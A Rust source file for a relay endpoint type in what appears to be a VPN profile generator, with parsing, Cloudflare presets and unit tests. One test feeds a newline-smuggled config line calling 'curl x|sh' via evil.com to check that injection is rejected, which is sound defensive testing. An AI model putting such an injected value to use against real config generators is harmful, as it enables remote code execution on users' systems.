//! Relay endpoint
//!
//! Host/port pair the generated profile dials. Hosts stay textual
//! because several presets are DNS names, not literal addresses.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::net::Ipv6Addr;
use std::str::FromStr;

/// Port used when an endpoint is given without one
pub const DEFAULT_PORT: u16 = 500;

/// Relay endpoint (host + UDP port)
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Endpoint {
    /// Hostname or IP literal, as the client will see it
    pub host: String,
    /// UDP port
    pub port: u16,
}

impl Endpoint {
    /// Create a new endpoint
    pub fn new(host: impl Into<String>, port: u16) -> Self {
        Self {
            host: host.into(),
            port,
        }
    }

    /// Primary anycast address offered by default
    pub fn primary() -> Self {
        Self::new("162.159.195.1", DEFAULT_PORT)
    }

    /// Alternate DNS-named endpoint on the secondary port
    pub fn alternate() -> Self {
        Self::new("engage.cloudflareclient.com", 2408)
    }

    /// Parse free text of the form `host[:port]`.
    ///
    /// IPv6 literals may be bracketed (`[addr]:port`) or bare, in which case
    /// they take no port. Other hosts split host and port on the `:`. A
    /// missing port falls back to [`DEFAULT_PORT`]. Hosts are stored
    /// without brackets.
    pub fn parse(input: &str) -> Result<Self, EndpointError> {
        let input = input.trim();
        if input.is_empty() {
            return Err(EndpointError::Empty);
        }

        if let Some(rest) = input.strip_prefix('[') {
            let (addr, tail) = rest
                .split_once(']')
                .ok_or_else(|| EndpointError::InvalidHost(input.to_string()))?;
            let addr = parse_ipv6(addr)?;
            let port = match tail {
                "" => DEFAULT_PORT,
                _ => match tail.strip_prefix(':') {
                    Some(port) => parse_port(port)?,
                    None => return Err(EndpointError::InvalidHost(input.to_string())),
                },
            };
            return Ok(Self::new(addr, port));
        }

        // More than one colon only makes sense as a bare IPv6 literal
        if input.matches(':').count() > 1 {
            return Ok(Self::new(parse_ipv6(input)?, DEFAULT_PORT));
        }

        let (host, port) = match input.split_once(':') {
            Some((host, port)) => (host, parse_port(port)?),
            None => (input, DEFAULT_PORT),
        };
        if host.is_empty() {
            return Err(EndpointError::MissingHost(input.to_string()));
        }
        if !host
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_'))
        {
            return Err(EndpointError::InvalidHost(host.to_string()));
        }
        Ok(Self::new(host, port))
    }

    /// Is the host an IPv6 literal?
    pub fn is_ipv6(&self) -> bool {
        self.host.contains(':')
    }

    /// Resolve one of the named presets (`default`, `default2`)
    pub fn preset(name: &str) -> Option<Self> {
        match name {
            "default" => Some(Self::primary()),
            "default2" => Some(Self::alternate()),
            _ => None,
        }
    }
}

impl Default for Endpoint {
    fn default() -> Self {
        Self::primary()
    }
}

impl fmt::Display for Endpoint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.is_ipv6() {
            write!(f, "[{}]:{}", self.host, self.port)
        } else {
            write!(f, "{}:{}", self.host, self.port)
        }
    }
}

impl FromStr for Endpoint {
    type Err = EndpointError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Self::preset(s).map_or_else(|| Self::parse(s), Ok)
    }
}

fn parse_ipv6(addr: &str) -> Result<String, EndpointError> {
    addr.parse::<Ipv6Addr>()
        .map(|ip| ip.to_string())
        .map_err(|_| EndpointError::InvalidHost(addr.to_string()))
}

fn parse_port(port: &str) -> Result<u16, EndpointError> {
    port.parse()
        .map_err(|_| EndpointError::InvalidPort(port.to_string()))
}

/// Endpoint parsing errors
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum EndpointError {
    #[error("Endpoint is required")]
    Empty,

    #[error("Endpoint has no host: {0}")]
    MissingHost(String),

    #[error("Invalid endpoint host: {0:?}")]
    InvalidHost(String),

    #[error("Invalid endpoint port: {0}")]
    InvalidPort(String),
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_parse_host_and_port() {
        let ep = Endpoint::parse("example.com:500").unwrap();
        assert_eq!(ep.host, "example.com");
        assert_eq!(ep.port, 500);
        assert_eq!(ep.to_string(), "example.com:500");
    }

    #[test]
    fn test_parse_defaults_port() {
        let ep = Endpoint::parse("  engage.cloudflareclient.com ").unwrap();
        assert_eq!(ep.port, DEFAULT_PORT);
        assert_eq!(ep.host, "engage.cloudflareclient.com");
    }

    #[test]
    fn test_parse_ipv6() {
        let ep = Endpoint::parse("[2606:4700:d0::a29f:c001]:2408").unwrap();
        assert_eq!(ep.host, "2606:4700:d0::a29f:c001");
        assert_eq!(ep.port, 2408);
        assert_eq!(ep.to_string(), "[2606:4700:d0::a29f:c001]:2408");

        let bare = Endpoint::parse("2606:4700:d0::a29f:c001").unwrap();
        assert_eq!(bare.port, DEFAULT_PORT);
        assert_eq!(bare.to_string(), "[2606:4700:d0::a29f:c001]:500");
        assert_eq!(Endpoint::parse(&bare.to_string()).unwrap(), bare);

        let no_port = Endpoint::parse("[::1]").unwrap();
        assert_eq!(no_port, Endpoint::new("::1", DEFAULT_PORT));
    }

    #[test]
    fn test_parse_rejects_injected_lines() {
        let err = Endpoint::parse("evil.com\nPostUp = curl x|sh\n[Peer]\nX = y:500").unwrap_err();
        assert!(matches!(err, EndpointError::InvalidHost(_)));

        for input in [
            "evil.com\n:500",
            "evil com:500",
            "evil.com\tx",
            "evil.com?x=1:500",
            "evil.com#frag",
            "a&b.com:500",
            "host/path:500",
            "a=b:500",
            "[evil.com]:500",
            "[::1]x",
            "[::1",
            "host]:500",
        ] {
            assert!(
                matches!(Endpoint::parse(input), Err(EndpointError::InvalidHost(_))),
                "{input:?}"
            );
        }
    }

    #[test]
    fn test_parse_rejects_garbage() {
        assert_eq!(Endpoint::parse(""), Err(EndpointError::Empty));
        assert!(matches!(
            Endpoint::parse("host:notaport"),
            Err(EndpointError::InvalidPort(_))
        ));
        assert!(matches!(
            Endpoint::parse("host:70000"),
            Err(EndpointError::InvalidPort(_))
        ));
        assert!(matches!(
            Endpoint::parse(":500"),
            Err(EndpointError::MissingHost(_))
        ));
    }

    #[test]
    fn test_presets() {
        assert_eq!("default".parse::<Endpoint>().unwrap().to_string(), "162.159.195.1:500");
        assert_eq!(
            "default2".parse::<Endpoint>().unwrap().to_string(),
            "engage.cloudflareclient.com:2408"
        );
        assert_eq!(Endpoint::default(), Endpoint::primary());
    }
}
